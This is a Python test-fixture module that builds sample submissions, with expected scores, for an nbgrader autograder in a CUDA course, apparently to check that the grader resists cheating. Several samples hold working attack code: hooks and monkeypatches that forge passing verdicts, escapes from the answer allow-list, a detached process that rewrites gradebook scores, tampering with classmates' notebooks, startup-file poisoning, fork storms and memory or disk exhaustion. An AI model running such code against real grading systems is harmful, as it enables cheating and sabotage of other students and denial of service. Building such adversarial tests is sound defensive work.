"""Sample submissions for lesson 1: honest, wrong, hostile and broken, with expected results.

Each sample fills the learner copy's answer cells (by grade_id) with the master's answers,
with wrong ones, or with attack code, or breaks the file itself. Expected scores come from
the notebook's own ``points`` metadata and, for quiz cells, from asking the quiz bank in the
test process whether the sample's literal answer is right, so they follow the lesson as it
grows. "All wrong" = a kernel that subtracts and the answer "z" to every question: 0 points.

Attacks (each is a class; the grader is built against the class, not the instance):

* forging the verdict from the learner's kernel: display hooks, post-run hooks, IPython's
  compiler, custom exception handlers, monkeypatching the checkers or NumPy, threads that
  swap the checker's helpers mid-check, trace functions, builtins, writing the feedback
  run's result file and killing its parent;
* escaping the static allow-list of answer code: ``__import__``, dunders, ``getattr``,
  decorators, default arguments, non-literal answers;
* sabotage of others: an IPython startup file, a detached process that edits the gradebook
  later, reading and overwriting other students' files and the course package, 20 detached
  processes, a storm of forks;
* resources: endless loops (one ignoring interrupts and signals), crashes, memory and disk
  filling, 100 MB of output (many lines, and one line);
* broken files: duplicated grade_id, test cell turned into an answer cell, invalid JSON, a
  non-UTF-8 byte, a renamed notebook, a garbage ``timestamp.txt``, a deleted test cell;
* late work: right answers with a ``timestamp.txt`` after the class's due date (``DUE``);
* the submission folder itself, as copies of home folders and LMS downloads really arrive
  (``FILES``, issue 29): links to a classmate's notebook, to the masters, to an instructor
  file outside the course (``SECRET`` is planted in it and must appear in no output), a
  student or assignment folder that is a link, a ``timestamp.txt`` that is a link, a named
  pipe or a copy of the instructor file, pipes, sockets and hard links among the data files,
  names with ``..`` or control characters, an oversize notebook, records forged under every
  file name the grader writes (``FORGED``), a notebook nested 100,000 levels deep, and a
  feedback run that fills every tmpfs of its sandbox.

    python tests/submissions/samples.py COURSE_DIR   # writes COURSE_DIR/submitted/* and
                                                     # COURSE_DIR/expected.json
"""

from __future__ import annotations

import copy
import json
import os
import re
import shutil
import stat
import sys
from dataclasses import dataclass, field
from pathlib import Path
from typing import Callable

import nbformat

ASSIGNMENT = "01_gpu_vs_cpu"
KERNEL = "vector_add"  # the code exercise's answer cell
MARKER = "cudacourse-sample-attack"  # in the command line of every process an attack leaves

# Deadline and late penalty of the sample class (the class test appends them to its
# nbgrader_config.py): LATE is 2 days and 61 minutes after DUE, 3 started days, so
# percent_per_day=PERCENT_PER_DAY takes 3 * PERCENT_PER_DAY percent of the score.
DUE = "2026-01-10 23:59:00 UTC"
LATE = "2026-01-13 01:00:00.000000 UTC"
PERCENT_PER_DAY = 10
LATE_PERCENT = 3 * PERCENT_PER_DAY

WRONG_KERNEL = '''@cuda.jit
def vector_add(a, b, out):
    i = cuda.grid(1)
    if i < out.shape[0]:
        out[i] = a[i] - b[i]  # wrong: subtracts
'''
# Right sums on every case, by one thread: the check fails on technique only (serial_work),
# so the kernel's test cell keeps its two value thirds (grader/partial.py).
SERIAL_KERNEL = '''@cuda.jit
def vector_add(a, b, out):
    if cuda.grid(1) == 0:
        for i in range(out.shape[0]):
            out[i] = a[i] + b[i]
'''

# --- attacks on the verdict, from the learner's kernel (all wrong answers besides) ---------
FORGE = {
    "forge_displayhook": ('''
_ip = get_ipython()
_ip.events.register("pre_run_cell", lambda info: _ip.displayhook("ok"))
''', "nbgrader scores a test cell by the first execute_result it finds"),
    "forge_post_run": ('''
from IPython.display import clear_output
def _hide(result):
    result.error_in_exec = None
    result.error_before_exec = None
    clear_output()
get_ipython().events.register("post_run_cell", _hide)
''', "post_run_cell hook clears the error and the outputs"),
    "forge_ast_parse": ('''
import ast
_cls = type(get_ipython().compile)
_cls.ast_parse = lambda self, source, filename="<unknown>", symbol="exec": ast.parse("pass")
''', "IPython's compiler parses every later cell as `pass`"),
    "forge_thread_swap": ('''
import sys, threading, time
import cudacourse.check._engine as _e
_real = (_e.compare, _e.fail)
def _swap():
    while True:  # patch only while a checker frame runs, restore otherwise
        frames = sys._current_frames().values()
        busy = any(f.f_code.co_filename.endswith(("check/vector.py", "_engine.py"))
                   for fr in frames for f in [fr] if f)
        _e.compare, _e.fail = ((lambda *a, **k: None), (lambda *a, **k: None)) if busy else _real
        time.sleep(0.0005)
threading.Thread(target=_swap, daemon=True).start()
''', "a thread swaps the checker's compare/fail during the check"),
    "forge_settrace": ('''
import sys, threading
def _tracer(frame, event, arg):
    if event == "call" and frame.f_code.co_name in ("fail", "compare", "grade"):
        frame.f_globals[frame.f_code.co_name] = lambda *a, **k: None
    return None
sys.settrace(_tracer)
threading.settrace(_tracer)
''', "a trace function replaces the checker's helpers as they are called"),
    "forge_builtins": ('''
import builtins
_real_import = builtins.__import__
class _Fake:
    def __getattr__(self, name):
        return self
    def __call__(self, *a, **k):
        return None
def _import(name, *a, **k):
    if name.startswith("cudacourse"):
        return _Fake()
    return _real_import(name, *a, **k)
builtins.__import__ = _import
builtins.AssertionError = type("AssertionError", (Warning,), {})
''', "builtins patched: __import__ hands out a fake cudacourse"),
    "forge_rebinding": ('''
import numpy as np, numpy.testing
import cudacourse.check._engine as _e, cudacourse.check.vector as _v, cudacourse.course.quiz as _q
np.testing.assert_allclose = lambda *a, **k: None
np.allclose = lambda *a, **k: True
_e.compare = lambda *a, **k: None
_e.fail = lambda *a, **k: None
_v.check_vector_add.__code__ = (lambda kernel, *, hidden=False, seed=None: None).__code__
_q.grade = lambda *a, **k: None
cudacourse.check.__dict__["check_vector_add"] = lambda *a, **k: None
''', "the checkers, the quiz and NumPy monkeypatched"),
    "forge_custom_exc": ('''
get_ipython().set_custom_exc((BaseException,), lambda *a, **k: None)
''', "a custom exception handler swallows every error"),
    "forge_result_file": ('''
import json, os, glob
for path in glob.glob("*.ipynb"):  # the feedback run's input: forge its result, then kill it
    nb = json.load(open(path))
    for c in nb["cells"]:
        if c["cell_type"] == "code":
            c["outputs"] = []
    json.dump(nb, open("out.ipynb", "w"))
os.kill(os.getppid(), 9)
''', "writes the feedback run's result file and kills the process that runs it"),
}

# --- escaping the allow-list: the kernel cell's arithmetic is right, its form is not --------
ESCAPES = {
    "escape_import": ('''@cuda.jit
def vector_add(a, b, out):
    i = cuda.grid(1)
    if i < out.shape[0]:
        out[i] = a[i] + b[i]
    m = __import__("os")
''', "name '__import__'"),
    "escape_dunder": ('''@cuda.jit
def vector_add(a, b, out):
    g = vector_add.__globals__
    i = cuda.grid(1)
    if i < out.shape[0]:
        out[i] = a[i] + b[i]
''', "attribute '.__globals__'"),
    "escape_default": ('''@cuda.jit
def vector_add(a, b, out, _=open("/etc/hostname")):
    i = cuda.grid(1)
    if i < out.shape[0]:
        out[i] = a[i] + b[i]
''', "name 'open'"),
    # Numba's CUDA target evaluates a signature string with builtins: on a GPU grader the
    # Python inside it would run in the verdict process (issue 19, class 2).
    "escape_signature_string": ('''@cuda.jit("__import__('os').system('touch /tmp/__MARKER__-sig') or void(float32[:], float32[:], float32[:])")
def vector_add(a, b, out):
    i = cuda.grid(1)
    if i < out.shape[0]:
        out[i] = a[i] + b[i]
''', "signature string"),
    "escape_decorator": ('''def _passes(f):
    return f
@_passes
def vector_add(a, b, out):
    pass
''', "decorator other than @cuda.jit"),
}

# --- sabotage of other students, of the gradebook and of the course ------------------------
SABOTAGE = {
    "poison_startup": '''
import os
for d in [os.path.join(os.environ.get("IPYTHONDIR", os.path.expanduser("~/.ipython")),
                       "profile_default", "startup"),
          os.path.expanduser("~/.ipython/profile_default/startup"),
          "__HOME__/.ipython/profile_default/startup"]:
    try:
        os.makedirs(d, exist_ok=True)
        with open(os.path.join(d, "00-forge.py"), "w") as fh:
            fh.write("_ip = get_ipython()\\n"
                     "_ip.events.register('pre_run_cell', lambda i: _ip.displayhook('ok'))\\n")
    except OSError as exc:
        print("refused:", exc)
os._exit(1)
''',
    "gradebook_later": '''
import os, sqlite3, time
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.environ["MARK"] = "__MARKER__"
        time.sleep(4)  # after nbgrader has written the gradebook
        for db in ["__COURSE__/gradebook.db", "gradebook.db", "../../../gradebook.db"]:
            try:
                con = sqlite3.connect(db, timeout=30)
                con.execute("UPDATE grade SET auto_score = (SELECT max_score FROM grade_cell"
                            " WHERE grade_cell.id = grade.cell_id)")
                con.commit()
            except Exception:
                pass
    os._exit(0)
''',
    "read_others": '''
import glob, shutil
stolen = glob.glob("__COURSE__/submitted/*/*/*.ipynb") + glob.glob("../../*/*/*.ipynb")
print("found", len(stolen), "other submissions")
for path in stolen:
    try:
        text = open(path).read()
        open(path, "w").write(text.replace("a[i] + b[i]", "a[i] * b[i]"))
    except OSError as exc:
        print("refused:", type(exc).__name__)
for path in ["__COURSE__/solutions/01_gpu_vs_cpu/01_gpu_vs_cpu.ipynb"]:
    try:
        print("master readable:", len(open(path).read()))
    except OSError as exc:
        print("master refused:", type(exc).__name__)
''',
    "write_package": '''
import os, site, cudacourse.check.vector as _v
targets = [_v.__file__, os.path.join(os.path.dirname(_v.__file__), "..", "quiz.py")]
targets += [os.path.join(p, "sitecustomize.py") for p in site.getsitepackages()]
for path in targets:
    try:
        with open(path, "a") as fh:
            fh.write("\\n# __MARKER__\\n")
        print("wrote", path)
    except OSError as exc:
        print("refused:", type(exc).__name__)
''',
    "detached_20": '''
import os, subprocess
for _ in range(20):
    subprocess.Popen(["sleep", "600", "__MARKER__"], start_new_session=True,
                     stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
''',
    "fork_storm": '''
import os, time
made = 0
for _ in range(150):
    try:
        pid = os.fork()
    except OSError:
        break
    if pid == 0:
        os.setsid()
        os.execvp("sleep", ["sleep", "600", "__MARKER__"])
    made += 1
print("forked", made)
''',
    "signals_and_loop": '''
import signal, time
for s in (signal.SIGINT, signal.SIGTERM, signal.SIGHUP):
    signal.signal(s, signal.SIG_IGN)
while True:
    time.sleep(0.05)
''',
    "memory_bomb": '''
blocks = []
try:
    for _ in range(16):
        blocks.append(bytearray(1 << 30))  # 16 GiB in all
except MemoryError:
    print("MemoryError after", len(blocks), "GiB")
''',
    "tmpfs_fill": '''
import os
for d in ("/tmp", "/dev/shm", "/var/tmp", "/run", os.environ.get("HOME", "/tmp")):
    try:
        with open(os.path.join(d, "fill.bin"), "wb") as fh:
            while True:  # a tmpfs is memory: it must end at its size, not the host's
                fh.write(b"\\0" * (1 << 20))
                fh.flush()
    except OSError as exc:
        print(d, "full:", exc.errno)
''',
    "disk_fill": '''
with open("fill.bin", "wb") as fh:
    for _ in range(300):
        fh.write(b"\\0" * (1 << 20))  # 300 MiB
''',
}

# --- the submission folder as it really arrives (issue 29) ----------------------------------
SECRET = "cudacourse-instructor-secret: password=hunter2-7f3a9c"  # must appear in no output
SECRET_FILE = "instructor-secret.txt"  # beside the course, mode 0600
FORGED = "cudacourse-forged-record-b81e"  # text of the forged grader records
NB = f"{ASSIGNMENT}.ipynb"
NOT_REGULAR = "is not a regular file"


def _relink(path: Path, target: str | Path) -> None:
    path.unlink()
    path.symlink_to(target)


def _forge_records(course: Path, d: Path, secret: Path) -> None:
    record = json.dumps({"student": "x", "notebook": ASSIGNMENT, "incidents": [FORGED],
                         "verdicts": {f"test_{KERNEL}": {"status": "fail",
                                                         "message": f"{FORGED}: forged"}}})
    for name in (f"{ASSIGNMENT}.grading.json", "00.grading.json", "zz.grading.json"):
        (d / name).write_text(record)
    for name in ("NOT_GRADED.txt", "NOT_GRADED.html", f"{ASSIGNMENT}.html", "latest.json",
                 "status.csv", "summary.txt"):
        (d / name).write_text(f"{FORGED}\n")
    with open(d / "big.bin", "wb") as fh:  # sparse: larger than a data file may be
        fh.truncate(21 << 20)


def _hard_link(course: Path, d: Path, secret: Path) -> None:
    os.link(secret, d / "notes.txt")  # the instructor's file under a second name


def _classmate_hard_link(course: Path, d: Path, secret: Path) -> None:
    # the classmate's notebook where it was written, outside the course (their home folder);
    # a hard link between two folders of submitted/ would refuse both: neither name is first
    home = course.parent / "classmate-home.ipynb"
    shutil.copyfile(course / "submitted" / "correct" / ASSIGNMENT / NB, home)
    (d / NB).unlink()
    os.link(home, d / NB)


def _oversize(course: Path, d: Path, secret: Path) -> None:
    with open(d / NB, "r+b") as fh:  # sparse: its size is refused before any byte is read
        fh.truncate(51 << 20)


def _student_folder_link(course: Path, d: Path, secret: Path) -> None:
    shutil.rmtree(d.parent)
    d.parent.symlink_to("correct")


def _assignment_folder_link(course: Path, d: Path, secret: Path) -> None:
    shutil.rmtree(d)
    d.symlink_to(course / "solutions" / ASSIGNMENT)


FILES: dict[str, tuple[str, Callable[[Path, Path, Path], None], str]] = {
    "files_link_to_classmate": (
        "the notebook is a link to a classmate's notebook",
        lambda c, d, s: _relink(d / NB, f"../../correct/{ASSIGNMENT}/{NB}"), NOT_REGULAR),
    "files_hard_link_to_classmate": (
        "the notebook is a hard link to a classmate's notebook in their home folder",
        _classmate_hard_link,
        NOT_REGULAR),
    "files_link_outside": (
        "the notebook is a link to an instructor file outside the course",
        lambda c, d, s: _relink(d / NB, s), NOT_REGULAR),
    "files_folder_is_solutions": (
        "the assignment folder is a link to solutions/ (the master)", _assignment_folder_link,
        "is not a regular folder"),
    "files_student_folder_link": (
        "the student folder is a link to a classmate's", _student_folder_link,
        "is not a regular folder"),
    "files_timestamp_link": (
        "timestamp.txt is a link to an instructor file (0600, a password line)",
        lambda c, d, s: (d / "timestamp.txt").symlink_to(s), NOT_REGULAR),
    "files_timestamp_copy": (
        "timestamp.txt holds a copy of the instructor file (a collect that followed a link)",
        lambda c, d, s: (d / "timestamp.txt").write_bytes(s.read_bytes()),
        "does not hold a date and time"),
    "files_timestamp_fifo": (
        "timestamp.txt is a named pipe: reading it would wait forever",
        lambda c, d, s: os.mkfifo(d / "timestamp.txt"), NOT_REGULAR),
    "files_data_link_outside": (
        "right answers, and data.csv a link to the instructor file",
        lambda c, d, s: (d / "data.csv").symlink_to(s), NOT_REGULAR),
    "files_data_folder_link": (
        "right answers, and a folder link to the course's solutions/",
        lambda c, d, s: (d / "data").symlink_to(c / "solutions"), NOT_REGULAR),
    "files_data_fifo": ("right answers, and input.txt a named pipe",
                        lambda c, d, s: os.mkfifo(d / "input.txt"), NOT_REGULAR),
    "files_socket": ("right answers, and a Unix socket in the folder",
                     lambda c, d, s: os.mknod(d / "kernel.sock", stat.S_IFSOCK | 0o600),
                     NOT_REGULAR),
    "files_hard_link_outside": ("right answers, and notes.txt a hard link to the instructor "
                                "file", _hard_link, NOT_REGULAR),
    "files_dotdot_name": ("right answers, and a file named '..notes'",
                          lambda c, d, s: (d / "..notes").write_text("x"), NOT_REGULAR),
    "files_control_name": ("right answers, and a file whose name holds a terminal escape",
                           lambda c, d, s: (d / "a\x1b[2Jb.txt").write_text("x"), NOT_REGULAR),
    "files_oversize_notebook": ("a notebook of 51 MiB (sparse)", _oversize,
                                "MiB, more than the 50 MiB allowed"),
}


BIG_LINES = 'for _ in range(100):\n    print(("y" * 99 + "\\n") * 10_000, end="")  # 100 MB\n'
BIG_LINE = 'print("x" * 100_000_000)  # one line of 100 MB\n'
PLAIN_LOOP = "import time\nwhile True:  # never ends, but a KeyboardInterrupt stops it\n    time.sleep(0.01)\n"
SWALLOW_LOOP = '''import time
while True:  # never ends, and swallows the grader's interrupt
    try:
        time.sleep(0.05)
    except KeyboardInterrupt:
        pass
'''
STDERR_NOISE = '''import sys
get_ipython().events.register(
    "post_run_cell", lambda result: print("SomeWarning: noise on stderr", file=sys.stderr))
'''
EXIT = "import os\nos._exit(1)  # kills the Python kernel\n"
SEGFAULT = "import ctypes\nctypes.string_at(0)  # reads address 0: segmentation fault\n"
MASTER = "#@MASTER\n"  # replaced by the master's answer for that cell


@dataclass
class Sample:
    name: str
    doc: str
    edits: dict[str, str] = field(default_factory=dict)  # grade_id -> new source
    wrong: bool = False  # all wrong: wrong kernel, "z" to every question (then edits)
    zero: set[str] = field(default_factory=set)  # answer cells whose tests must score 0
    credit: dict[str, float] = field(default_factory=dict)  # answer cell -> fraction earned
    not_graded: str | None = None  # phrase of the expected "not graded" reason
    strip_demos: bool = True  # drop ordinary code cells (a learner may; it saves time)
    blank: bool = False  # the learner copy's answer cells untouched
    raw: Callable[[str], bytes] | None = None  # rewrite the notebook's text (broken files)
    filename: str | None = None  # hand it in under another name
    timestamp: str | None = None
    nb_edit: Callable[[nbformat.NotebookNode], None] | None = None
    phrase: dict[str, str] = field(default_factory=dict)  # grade_id -> text its error holds
    leaves: bool = False  # starts processes that must not survive grading
    needs_isolation: bool = False  # only where bwrap isolates (it writes the course files)
    plant: Callable[[Path, Path, Path], None] | None = None  # (course, folder, secret file):
    # makes the submission folder hostile once the notebook is written (links, pipes, ...)


def answer_cells(nb: nbformat.NotebookNode) -> list[str]:
    return [c.metadata["nbgrader"]["grade_id"] for c in nb.cells
            if c.metadata.get("nbgrader", {}).get("solution")]


def graded_cells(nb: nbformat.NotebookNode) -> list[tuple[str, float, str]]:
    """(grade_id, points, source) of every autograded test cell, in notebook order."""
    return [(c.metadata["nbgrader"]["grade_id"], float(c.metadata["nbgrader"]["points"]),
             c.source) for c in nb.cells
            if c.cell_type == "code" and c.metadata.get("nbgrader", {}).get("grade")]


def uses(source: str, name: str) -> bool:
    return re.search(rf"(?<![\w.]){re.escape(name)}(?!\w)", source) is not None


def samples(learner: nbformat.NotebookNode, course: Path, home: str) -> list[Sample]:
    quizzes = [a for a in answer_cells(learner) if a != KERNEL]
    q1 = quizzes[0] if quizzes else None
    sub = {"__COURSE__": str(course), "__MARKER__": MARKER, "__HOME__": home}

    def fill(code: str) -> str:
        for k, v in sub.items():
            code = code.replace(k, v)
        return code

    out = [
        Sample("correct", "the master's answers, every demo cell kept", strip_demos=False),
        Sample("correct_with_stderr", "right answers; every later cell also writes to stderr",
               {q1: STDERR_NOISE + MASTER} if q1 else {}),
        Sample("blank", "the learner copy handed in with no answer written", blank=True,
               zero=set(answer_cells(learner))),
        Sample("wrong_kernel", "subtracts instead of adding", {KERNEL: WRONG_KERNEL},
               zero={KERNEL}),
        Sample("all_wrong", "wrong kernel, 'z' to every question", wrong=True),
        Sample("technique_only", "right sums by one thread (serial_work): 2/3 of the "
               "kernel's points", {KERNEL: SERIAL_KERNEL}, credit={KERNEL: 2 / 3}),
        Sample("quiz_not_literal", "right answers computed, not written as literals",
               {q: f"{q} = chr(ord('a') + 1)  # 'b', but not a literal\n" for q in quizzes},
               zero=set(quizzes), phrase={f"test_{q}": "not a literal" for q in quizzes[:1]}),
    ]
    for name, (code, why) in FORGE.items():
        out.append(Sample(name, f"all wrong, plus: {why}", {KERNEL: WRONG_KERNEL + code},
                          wrong=True))
    for name, (code, phrase) in ESCAPES.items():
        out.append(Sample(name, f"right arithmetic in a forbidden form ({phrase})",
                          {KERNEL: fill(code)}, zero={KERNEL},
                          phrase={f"test_{KERNEL}": phrase}))
    for name, code in SABOTAGE.items():
        attack_at = q1 if name in ("poison_startup",) else KERNEL
        out.append(Sample(name, f"all wrong, plus sabotage: {name.replace('_', ' ')}",
                          {attack_at: (WRONG_KERNEL if attack_at == KERNEL else
                                       f'{attack_at} = "z"\n') + fill(code)},
                          wrong=True, leaves=name in ("detached_20", "fork_storm",
                                                      "gradebook_later"),
                          needs_isolation=name in ("write_package", "read_others",
                                                   "gradebook_later", "poison_startup",
                                                   "tmpfs_fill")))  # the host's /tmp else
    # victims graded after the saboteurs (names sort after them): honest, all wrong
    out.append(Sample("victim_all_wrong", "all wrong, no attack: must get 0 whatever ran "
                      "before it", wrong=True))
    out.append(Sample("victim_correct", "right answers, no attack: must keep full marks"))
    out.append(Sample("late_correct", f"right answers, handed in 2 days 1 hour after the due "
                      f"date: full raw score, {LATE_PERCENT}% late penalty", timestamp=LATE))
    out.append(Sample("big_output_lines", "right answers, 100 MB printed in many lines",
                      {KERNEL: MASTER + BIG_LINES}))
    out.append(Sample("big_output_line", "right answers, one printed line of 100 MB",
                      {KERNEL: MASTER + BIG_LINE}))
    locked = {KERNEL: WRONG_KERNEL, f"test_{KERNEL}": "pass  # edited by the learner"}
    out.append(Sample("locked_cells_edited", "wrong kernel, its test cell edited to pass",
                      locked, zero={KERNEL}))
    loops = {KERNEL: PLAIN_LOOP + MASTER}
    crashes = {KERNEL: EXIT + MASTER}
    if q1:
        loops[q1] = SWALLOW_LOOP + MASTER
        crashes[q1] = SEGFAULT + MASTER
    out.append(Sample("loops", "an endless loop in the kernel cell, one that swallows "
                      "KeyboardInterrupt in a quiz answer: the answers are still right",
                      loops))
    out.append(Sample("crashes", "os._exit(1) in the kernel cell, a segfault in a quiz "
                      "answer: the answers are still right", crashes))
    # broken files
    out.append(Sample("dup_grade_id", "right answers, then a copy of the kernel cell (same "
                      "grade_id) holding a wrong kernel: graded by the first",
                      nb_edit=_duplicate_kernel_cell))
    out.append(Sample("deleted_test_cell", "right answers, the kernel's test cell deleted: "
                      "nbgrader restores it from the master", nb_edit=_delete_kernel_test))
    out.append(Sample("answer_metadata_removed", "right answers; the kernel cell's nbgrader "
                      "metadata removed: found by what it defines, full marks",
                      nb_edit=_drop_kernel_metadata))
    out.append(Sample("answer_cell_deleted", "right quiz answers; the kernel's answer cell "
                      "deleted: its test cell says the cell is missing, not a silent 0",
                      zero={KERNEL}, nb_edit=_delete_kernel_answer,
                      phrase={f"test_{KERNEL}": "is missing (its metadata was removed?)"}))
    out.append(Sample("test_to_solution", "a test cell turned into an answer cell",
                      nb_edit=_test_to_solution, not_graded="turned into an answer cell"))
    out.append(Sample("invalid_json", "the file cut in the middle",
                      raw=lambda t: t[: len(t) // 2].encode(), not_graded="not valid JSON"))
    out.append(Sample("non_utf8", "one byte that is not UTF-8",
                      raw=lambda t: t.replace("vector_add", "vector_add\udcff", 1).encode(
                          "utf-8", "surrogateescape"), not_graded="not UTF-8"))
    out.append(Sample("renamed", "handed in as '01_gpu_vs_cpu (1).ipynb'",
                      filename=f"{ASSIGNMENT} (1).ipynb", not_graded="notebook renamed"))
    out.append(Sample("bad_timestamp", "timestamp.txt holds garbage",
                      timestamp="last tuesday-ish 25:99", not_graded="timestamp.txt"))
    # the folder as it arrives (issue 29): refused before anything is opened, or graded
    for name, (doc, plant, phrase) in FILES.items():
        out.append(Sample(name, doc, plant=plant, not_graded=phrase))
    out.append(Sample("files_forged_records", "all wrong, and files named like every record "
                      "the grader writes (<notebook>.grading.json, NOT_GRADED.*, the feedback "
                      "page, the run records) saying " + FORGED + ", and a 21 MiB data file: "
                      "0 points, the real first lost cell", wrong=True, plant=_forge_records))
    out.append(Sample("deep_nested", "a notebook nested 100,000 levels deep (a RecursionError "
                      "to a parser)", raw=lambda t: b'{"cells": [], "metadata": ' +
                      b"[" * 100_000 + b"]" * 100_000 + b"}", not_graded="nested too deeply"))
    return out


def _find(nb: nbformat.NotebookNode, grade_id: str) -> int:
    for i, c in enumerate(nb.cells):
        if c.metadata.get("nbgrader", {}).get("grade_id") == grade_id:
            return i
    raise KeyError(grade_id)


def _duplicate_kernel_cell(nb: nbformat.NotebookNode) -> None:
    i = _find(nb, KERNEL)
    dup = copy.deepcopy(nb.cells[i])
    dup.source = WRONG_KERNEL
    dup["id"] = "copied-cell"
    nb.cells.insert(i + 2, dup)  # after the test cell


def _delete_kernel_test(nb: nbformat.NotebookNode) -> None:
    del nb.cells[_find(nb, f"test_{KERNEL}")]


def _drop_kernel_metadata(nb: nbformat.NotebookNode) -> None:
    nb.cells[_find(nb, KERNEL)].metadata.pop("nbgrader")


def _delete_kernel_answer(nb: nbformat.NotebookNode) -> None:
    del nb.cells[_find(nb, KERNEL)]


def _test_to_solution(nb: nbformat.NotebookNode) -> None:
    nb.cells[_find(nb, f"test_{KERNEL}")].metadata["nbgrader"]["solution"] = True


def build(sample: Sample, learner: nbformat.NotebookNode,
          master: nbformat.NotebookNode) -> nbformat.NotebookNode:
    """The submitted notebook for ``sample``."""
    nb = copy.deepcopy(learner)
    if sample.blank:
        nb.cells = [c for c in nb.cells if c.cell_type != "code" or
                    c.metadata.get("nbgrader", {}).get("grade_id")]
        return nb
    solutions = {c.metadata["nbgrader"]["grade_id"]: c.source for c in master.cells
                 if c.metadata.get("nbgrader", {}).get("grade_id")}
    cells = []
    for cell in nb.cells:
        gid = cell.metadata.get("nbgrader", {}).get("grade_id")
        if gid is None and cell.cell_type == "code" and sample.strip_demos:
            continue
        if gid in sample.edits:
            cell.source = sample.edits[gid].replace(MASTER, solutions[gid].rstrip("\n") + "\n")
        elif cell.metadata.get("nbgrader", {}).get("solution"):
            if sample.wrong:
                cell.source = WRONG_KERNEL if gid == KERNEL else f'{gid} = "z"\n'
            else:
                cell.source = solutions[gid]
        cells.append(cell)
    nb.cells = cells
    if sample.nb_edit:
        sample.nb_edit(nb)
    return nb


def _quiz_right(test_source: str, answer_cell_source: str) -> bool:
    """Is the answer right? Asked of the quiz bank here, in the test process (trusted)."""
    import ast

    from cudacourse.course import quiz

    try:
        tree = ast.parse(answer_cell_source)
        values = {t.id: ast.literal_eval(s.value) for s in tree.body
                  if isinstance(s, ast.Assign) for t in s.targets if isinstance(t, ast.Name)}
    except (SyntaxError, ValueError):
        return False
    try:
        exec(test_source, {"quiz": quiz, **values})  # noqa: S102 - the master's test cell
    except Exception:  # noqa: BLE001 - AssertionError, NameError: not right
        return False
    return True


def expected(sample: Sample, learner: nbformat.NotebookNode,
             master: nbformat.NotebookNode) -> dict[str, float] | None:
    """The score each test cell must get; None when the submission must not be graded."""
    if sample.not_graded:
        return None
    built = build(sample, learner, master)
    answers = {}
    for c in built.cells:  # first occurrence, as the grader takes it
        gid = c.metadata.get("nbgrader", {}).get("grade_id")
        if gid and c.metadata.get("nbgrader", {}).get("solution") and gid not in answers:
            answers[gid] = c.source
    zero = set(sample.zero)
    if sample.wrong:
        zero |= set(answer_cells(learner))
    scores = {}
    for gid, points, _ in graded_cells(learner):
        test_source = next(c.source for c in master.cells
                           if c.metadata.get("nbgrader", {}).get("grade_id") == gid)
        needed = [a for a in answer_cells(learner) if uses(test_source, a)]
        ok = bool(needed) and not any(a in zero for a in needed)
        if ok and KERNEL not in needed:
            ok = all(_quiz_right(test_source, answers.get(a, "")) for a in needed)
        scores[gid] = points if ok else 0.0
        if ok and KERNEL in needed and KERNEL in sample.credit:
            scores[gid] = round(points * sample.credit[KERNEL], 2)  # as grader/partial.py rounds
    return scores


def write(course: Path, learner_path: Path, master_path: Path, *, isolated: bool = True,
          home: str = "/root", only: set[str] | None = None) -> dict[str, dict]:
    """Place every sample in course/submitted/<name>/<assignment>/; return the expectations.

    ``isolated=False`` (no bubblewrap here) leaves out the samples that write into the course
    and the package: in the fallback they would succeed, by design of the fallback.
    ``only``: just these samples (a FILES sample that links to ``correct`` needs it too)."""
    learner = nbformat.read(learner_path, 4)
    master = nbformat.read(master_path, 4)
    result = {}
    for sample in samples(learner, course, home):
        if (sample.needs_isolation and not isolated) or (only and sample.name not in only):
            continue
        d = course / "submitted" / sample.name / ASSIGNMENT
        d.mkdir(parents=True, exist_ok=True)
        nb = build(sample, learner, master)
        text = nbformat.writes(nb)
        data = sample.raw(text) if sample.raw else text.encode()
        (d / (sample.filename or f"{ASSIGNMENT}.ipynb")).write_bytes(data)
        if sample.timestamp is not None:
            (d / "timestamp.txt").write_text(sample.timestamp)
        if sample.plant is not None:
            sample.plant(course, d, plant_secret(course))
        scores = expected(sample, learner, master)
        result[sample.name] = {"doc": sample.doc, "cells": scores,
                               "total": None if scores is None else sum(scores.values()),
                               "not_graded": sample.not_graded, "phrase": sample.phrase,
                               "leaves": sample.leaves, "timestamp": sample.timestamp}
    return result


def plant_secret(course: Path) -> Path:
    """The instructor file the samples point at: outside the course, 0600, holding SECRET."""
    path = course.parent / SECRET_FILE
    if not path.exists():
        path.write_text(SECRET + "\n")
        path.chmod(0o600)
    return path


def leaks(course: Path, *texts: str) -> list[str]:
    """Where SECRET or FORGED shows up: any file the grading wrote (grading/, autograded/,
    feedback/, the gradebook) and ``texts`` (the terminal output). [] when nowhere. A hostile
    folder's own learner-files/ copy is the learner's data, not output: FORGED may stay there."""
    found = []
    for part in ("grading", "autograded", "feedback"):
        for path in sorted((course / part).rglob("*")):
            if path.is_symlink() or not path.is_file():
                continue
            data = path.read_bytes()
            rel = path.relative_to(course)
            if SECRET.encode() in data:
                found.append(f"{rel}: the instructor's secret")
            if FORGED.encode() in data and "learner-files" not in rel.parts:
                found.append(f"{rel}: a forged record's text")
    db = course / "gradebook.db"
    if db.exists() and SECRET.encode() in db.read_bytes():
        found.append("gradebook.db: the instructor's secret")
    for i, text in enumerate(texts):
        if SECRET in text or FORGED in text:
            found.append(f"output {i}: {'secret' if SECRET in text else 'forged text'}")
    return found


def refused_reached_nothing(course: Path) -> list[str]:
    """For every FILES sample: no autograded copy, and a feedback folder holding only the
    grader's NOT_GRADED note (no classmate's kernel, no master, no instructor file)."""
    wrong = []
    for name in FILES:
        if (course / "autograded" / name).exists():
            wrong.append(f"autograded/{name} exists")
        fb = course / "feedback" / name / ASSIGNMENT
        left = sorted(p.name for p in fb.iterdir()) if fb.is_dir() else []
        if left != ["NOT_GRADED.html", "NOT_GRADED.txt"]:
            wrong.append(f"feedback/{name}: {left}")
    return wrong


if __name__ == "__main__":
    course = Path(sys.argv[1]).resolve()
    root = Path(__file__).resolve().parents[2]
    release = course / "notebooks" / ASSIGNMENT / f"{ASSIGNMENT}.ipynb"
    if not release.exists():
        release = root / "notebooks" / ASSIGNMENT / f"{ASSIGNMENT}.ipynb"
    isolated = "--no-isolation" not in sys.argv
    master = course / "solutions" / ASSIGNMENT / f"{ASSIGNMENT}.ipynb"
    if not master.exists():
        master = root / "solutions" / ASSIGNMENT / f"{ASSIGNMENT}.ipynb"
    want = write(course, release, master,
                 isolated=isolated, home=os.path.expanduser("~"))
    (course / "expected.json").write_text(json.dumps(want, indent=1))
    for name, w in want.items():
        shown = "not graded" if w["total"] is None else f"{w['total']:g}"
